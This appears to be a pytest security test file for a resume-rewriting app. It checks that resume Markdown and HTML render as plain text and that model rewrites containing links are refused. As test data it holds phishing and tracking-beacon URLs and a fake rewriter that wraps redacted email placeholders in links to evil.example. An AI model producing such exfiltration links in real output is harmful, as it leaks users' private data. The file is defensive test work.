"""Finding 4: candidate and model text shown literally. Links, images, HTML, shortcodes in a resume stay text on
the Review page (a real browser checks what is drawn and fetched), and a model that writes a URL, Markdown or HTML
around a redacted placeholder gets its rewrite refused before the real value is put back."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt
from playwright.sync_api import expect

from core.factory import build_context
from core.output_guard import unsafe_output
from core.pipeline import run_to_end
from core.types import ItemState, MemoryCache
from tests.fakes.llm_server import FakeLLMServer, default_rewriter
from tests.security.conftest import ROOT
from tests.security.flows import api_key, open_review, sign_in, submit_and_wait
from webapp.literal import md

HOSTILE = [
    "[portfolio](https://phish.example/login)",
    "![t](https://attacker.example/beacon.png)",
    "<img src=https://attacker.example/b2.png>",
    "https://auto.example/x www.auto2.example jane@auto3.example",
    ":red[colour] $x^2$ **bold** `code` :smile:",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_md_leaves_no_markdown_syntax(text) -> None:
    tokens = MarkdownIt("commonmark").enable("strikethrough").parse(md(text))  # autolinks: see the browser test
    inline = [t for block in tokens if block.children for t in block.children]
    kinds = {t.type for t in inline}
    assert not kinds & {"link_open", "image", "html_inline", "strong_open", "code_inline", "s_open"}, kinds
    rendered = "".join(t.content for t in inline if t.type == "text").replace("\u200b", "")
    assert rendered == text  # shown exactly as written (the invisible breaks aside)


@pytest.mark.e2e
def test_review_draws_resume_markup_as_text_and_loads_nothing(secure_app, page, attacker) -> None:
    beacon = attacker.url("/beacon.png")
    resume = f"""Jane Doe
Experience
- Built data pipelines in Python, see [portfolio](https://phish.example/login) for details
- Managed a team of 4 engineers ![t]({beacon}) delivering a reporting platform
- Wrote dashboards used by 30 analysts <img src="{attacker.url("/img.png")}"> every week
- Ran reviews at https://auto.example/x and www.auto2.example weekly
"""
    jd = (ROOT / "samples" / "jd.txt").read_text()
    submit_and_wait(secure_app, api_key(secure_app), [{"resume": resume, "jd": jd, "ref": "markup"}])
    sign_in(page, secure_app)
    open_review(page, "markup")
    main = page.locator("section.stMain, [data-testid='stMain']").first
    expect(main.get_by_text("[portfolio](https://phish.example/login)").first).to_be_visible()
    expect(main.get_by_text(f"![t]({beacon})").first).to_be_visible()
    links = main.locator("a").evaluate_all("els => els.map(e => e.href)")
    hostile = re.compile(rf"phish|attacker|auto\.example|auto2|127\.0\.0\.1:{attacker.port}")
    assert not [h for h in links if hostile.search(h)]
    sources = main.locator("img").evaluate_all("els => els.map(e => e.src)")  # the app's own gauge is one
    assert not [src for src in sources if hostile.search(src) or not src.startswith((secure_app["base"], "data:"))]
    page.wait_for_timeout(1500)  # give any image the browser might fetch time to be asked for
    assert attacker.hits == []


RESUME = """Jane Doe · jane.doe@example.com
Experience
- Emailed weekly reports to jane.doe@example.com for the finance team
- Built data pipelines in Python and SQL
"""
JD = "Data Engineer\nRequirements: Python, SQL, Airflow.\n"


def _exfiltrating(text: str) -> str:
    """A model that wraps every placeholder it sees in a link and an image to its own server."""
    for placeholder in re.findall(r"\[EMAIL_\d+\]", text):
        text = text.replace(placeholder, f"[mail](https://evil.example/?e={placeholder}) ![x](https://evil.example/p)")
    return text + " with <b>ownership</b>" if "[mail]" in text else default_rewriter(text)


def test_model_output_with_links_is_refused_before_restore(make_settings) -> None:
    with FakeLLMServer(rewriter=_exfiltrating) as server:
        settings = make_settings(llm_provider="openai-compatible", llm_base_url=server.openai_url, llm_max_retries=0)
        ctx = build_context(settings, cache=MemoryCache())
        result = run_to_end(ItemState(item_id="i1", resume_text=RESUME, jd_text=JD), ctx).result
        assert b"[EMAIL_1]" in server.raw_bytes() and b"jane.doe@example.com" not in server.raw_bytes()
    assert result["status"] == "COMPLETED"
    leaked = [b for b in result["bullets"] if "evil.example" in (b["rewrite"] or "") + " ".join(b["variants"])]
    assert leaked == []
    refused = [f for f in result["item_flags"] if f["kind"] == "unsafe_output"]
    assert len(refused) == 1 and "bullet 1" in refused[0]["detail"]
    first = result["bullets"][0]
    assert first["rewrite"] is None and first["original"].endswith("jane.doe@example.com for the finance team")
    assert result["bullets"][1]["rewrite"]  # the bullet without a placeholder kept its (harmless) rewrite


@pytest.mark.parametrize(
    ("output", "sent", "unsafe"),
    [
        ("Led work, see https://x.example/?e=[EMAIL_1]", "Led work [EMAIL_1]", True),
        ("Led work ![p](x.png)", "Led work", True),
        ("Led <script>work</script>", "Led work", True),
        ("Led work with mailto:[EMAIL_1]", "Led work [EMAIL_1]", True),
        ("Led work at www.x.example", "Led work", True),
        ("Led work on https://github.com/acme (open source)", "Built https://github.com/acme (open source)", False),
        ("Cut p95 latency 40% with C# and Node.js on AWS", "Cut p95 latency 40% with C# and Node.js on AWS", False),
        ("Contacted [EMAIL_1] weekly", "Emailed [EMAIL_1] weekly", False),
    ],
)
def test_unsafe_output_rule(output, sent, unsafe) -> None:
    assert bool(unsafe_output(output, sent)) is unsafe
